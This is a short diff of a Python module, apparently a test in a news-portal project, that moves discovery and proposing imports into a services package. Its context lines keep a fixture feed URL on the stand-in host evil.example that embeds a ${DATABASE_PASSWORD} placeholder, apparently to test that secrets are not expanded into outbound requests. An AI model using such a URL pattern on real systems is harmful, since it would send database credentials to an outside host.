@@ -5,11 +5,11 @@ from __future__ import annotations
 from datetime import UTC, datetime
 from pathlib import Path
 
-from newsportal.discovery.opml import read
-from newsportal.discovery.search import find
 from newsportal.items import Page
+from newsportal.services.discovery.opml import read
+from newsportal.services.discovery.search import find
+from newsportal.services.trying.proposing import entry, planned, write
 from newsportal.sources import Sources, load
-from newsportal.trying.proposing import entry, planned, write
 
 FEED = "https://evil.example/feed?x=${DATABASE_PASSWORD}"
 ENVIRON = {"DATABASE_PASSWORD": "geheim"}
